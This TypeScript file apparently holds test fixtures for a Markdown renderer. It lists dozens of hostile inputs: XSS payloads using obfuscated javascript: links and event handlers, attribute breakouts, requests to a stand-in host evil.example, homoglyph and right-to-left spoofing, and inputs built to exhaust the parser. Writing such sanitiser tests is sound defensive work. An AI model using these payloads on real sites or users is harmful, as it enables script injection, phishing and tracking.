/** Hostile texts. Each tries to run a script, to request something, or to take long. */
export interface Payload {
  readonly name: string;
  readonly text: string;
}

const host = "https://evil.example";

const scripts: readonly string[] = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#x1;javascript:alert(1))",
  "[x](\u200Bjavascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](blob:https://loquat.example/1)",
  "[x](file:///etc/passwd)",
  "[x](view-source:javascript:alert(1))",
  "<javascript:alert(1)>",
  "[x][y]\n\n[y]: javascript:alert(1) 'onclick=alert(1)'",
  "![x](javascript:alert(1))",
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "a <img src=x onerror=alert(1)> b",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  `<iframe srcdoc="<script>alert(1)</script>" src="${host}"></iframe>`,
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import url(https://evil.example/a.css);</style>",
  `<base href="${host}/"><meta http-equiv=refresh content="0;url=${host}">`,
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
];

const breakouts: readonly string[] = [
  `[x](${host} "\\" onmouseover=alert(1) x=\\"")`,
  `![\\" onerror=alert(1) x=\\"](${host}/x.png "\\"><script>alert(1)</script>")`,
  "```js\" onclick=alert(1) x=\"\nx\n```",
  "```<script>alert(1)</script>\nx\n```",
  "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | ![](" + host + "/t.png) |",
  "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: <img src=x onerror=alert(1)>",
  "[x](" + host + "/%22%20onclick=alert(1))",
  "- [ ] <input autofocus onfocus=alert(1)>",
];

const formulas: readonly string[] = [
  "$\\href{javascript:alert(1)}{x}$",
  `$\\includegraphics{${host}/x.png}$`,
  "$\\htmlId{app}{x} \\htmlClass{a}{b} \\htmlStyle{background:url(https://evil.example)}{c} \\htmlData{a=b}{d}$",
  `$\\url{${host}} \\class{x}{y} \\id{app}{z}$`,
  "$\\text{<img src=x onerror=alert(1)>}$",
  "$\\color{red;background:url(https://evil.example)}{x}$",
  "$\\def\\a{\\a\\a}\\a$ and $\\newcommand{\\b}{\\b\\b}\\b$",
  "$\\rule{99999em}{99999em}\\kern99999em x$",
  "$" + "\\sqrt{".repeat(2_000) + "x" + "}".repeat(2_000) + "$",
  "$" + "\\sqrt".repeat(1_500) + " x$",
  "$" + "{".repeat(4_000) + "$",
];

const diagrams: readonly string[] = [
  "```mermaid\n%%{init: {\"securityLevel\": \"loose\"}}%%\ngraph TD; A-->B; click A \"javascript:alert(1)\"\n```\n",
  `\`\`\`mermaid\ngraph TD; A["<img src=${host}/x.png onerror=alert(1)>"]; click A href "${host}" _top\n\`\`\`\n`,
];

const images: readonly string[] = [
  `![x](${host}/t.png)`,
  "![x](//evil.example/t.png)",
  "![x][y]\n\n[y]: " + host + "/t.png",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  `![x](data:image/png;base64,AAAA" onerror="alert(1))`,
  `<picture><source srcset="${host}/a"><img src="${host}/b"></picture><video poster="${host}/c"><link rel=prefetch href="${host}/d">`,
];

const unicode: readonly string[] = [
  "\u202Egpj.exe\u202C [\u202Eelpmaxe.knab](https://evil.example)",
  "[https://b\u0430nk.example](https://b\u0430nk.example)",
  "a\0b <scr\0ipt>alert(1)</script> [x](java\0script:alert(1))",
  "\uFEFF\u2028\u2029<script>alert(1)</script>",
  "\uD800 lone \uDC00 surrogates [x](javascript:\uD800)",
];

const large: readonly Payload[] = [
  { name: "10,000 quotes", text: ">".repeat(10_000) + " x" },
  { name: "10,000 brackets", text: "[".repeat(10_000) },
  { name: "100,000 brackets", text: "[".repeat(100_000) },
  { name: "10,000 images", text: "![".repeat(10_000) },
  { name: "50,000 nested emphasis", text: "*a **a ".repeat(25_000) },
  { name: "emphasis of both kinds", text: "*_".repeat(20_000) + "a" },
  { name: "list of 1,000 levels", text: Array.from({ length: 1_000 }, (_, i) => "  ".repeat(i) + "- a\n").join("") },
  { name: "list markers on one line", text: "- ".repeat(10_000) + "x" },
  { name: "backticks of all lengths", text: Array.from({ length: 600 }, (_, i) => "`".repeat(i)).join(" ") },
  { name: "angle brackets", text: "<a ".repeat(20_000) + "<!--".repeat(20_000) },
  { name: "entities", text: "&#x1F600;&amp".repeat(20_000) },
  { name: "table of 2,000 columns", text: "|a".repeat(2_000) + "|\n" + "|-".repeat(2_000) + "|\n" + "|x\n".repeat(200) },
  { name: "definitions", text: Array.from({ length: 3_000 }, (_, i) => `[a${i}]: /${i}\n`).join("") + "[a1] ".repeat(3_000) },
  { name: "footnotes", text: "[^a".repeat(10_000) + "\n\n" + Array.from({ length: 2_000 }, (_, i) => `[^${i}]: [^${i + 1}]\n\n`).join("") + "[^0]" },
  { name: "formula openers", text: "$$a\n".repeat(10_000) + "\\(a ".repeat(10_000) + "$a ".repeat(10_000) },
  { name: "addresses", text: "https://".repeat(10_000) + " a@".repeat(10_000) + "www.".repeat(10_000) },
  { name: "a line of 1 MB", text: "word ".repeat(200_000) },
  { name: "code of 1 MB", text: "```js\n" + "const a = 1;\n".repeat(80_000) + "```\n" },
  { name: "a line of code of 1 MB", text: "```js\n" + "a".repeat(1_000_000) + "\n```\n" },
  { name: "an image of 2 MB behind brackets", text: "![".repeat(1_400) + `![a](data:image/png;base64,${"ABcd".repeat(480_000)})` + "]".repeat(1_400) },
  { name: "an image of 2 MB behind a few brackets", text: "![".repeat(22) + `![a](data:image/png;base64,${"ABcd".repeat(480_000)})` + "]" },
  { name: "an image of 2 MB that has no end", text: `![a](data:image/png;base64,${"ABcd".repeat(480_000)}` },
  { name: "beginnings of images", text: "[![a](data:image/png;base64,ABcd".repeat(40_000) },
  { name: "images of 3 MB", text: `![a](data:image/png;base64,${"ABcd".repeat(750)})`.repeat(1_000) },
  { name: "1 MB of paragraphs", text: "some *words* and `code` here\n\n".repeat(34_000) },
];

const numbered = (kind: string, texts: readonly string[]) => texts.map((text, i) => ({ name: `${kind} ${i + 1}`, text }));

/** Payloads that try to run or to request something. */
export const payloads: readonly Payload[] = [
  ...numbered("script", scripts),
  ...numbered("breakout", breakouts),
  ...numbered("formula", formulas),
  ...numbered("diagram", diagrams),
  ...numbered("image", images),
  ...numbered("unicode", unicode),
];

/** Payloads that try to take long. */
export const largePayloads: readonly Payload[] = large;
